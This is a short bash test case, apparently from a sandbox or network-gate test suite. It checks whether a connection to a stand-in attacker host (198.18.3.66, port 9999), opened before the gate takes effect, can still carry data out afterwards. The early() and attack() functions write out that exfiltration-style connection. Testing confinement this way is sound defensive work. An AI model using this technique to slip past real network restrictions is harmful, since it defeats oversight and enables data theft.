# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A connection to the attacker that is older than the gate'
origin='RESEARCH §2.20'
reason='older_than_scope'
early() {
    client "$PYTHON" "$TOOL/send.py" later 198.18.3.66 9999 "$1" "$T/go.$1" > "$T/early.$1" 2>&1 &
    eventually 15 grep -q connected "$T/early.$1"
}
attack() { : > "$T/go.$1" && eventually 15 grep -q "done" "$T/early.$1"; }
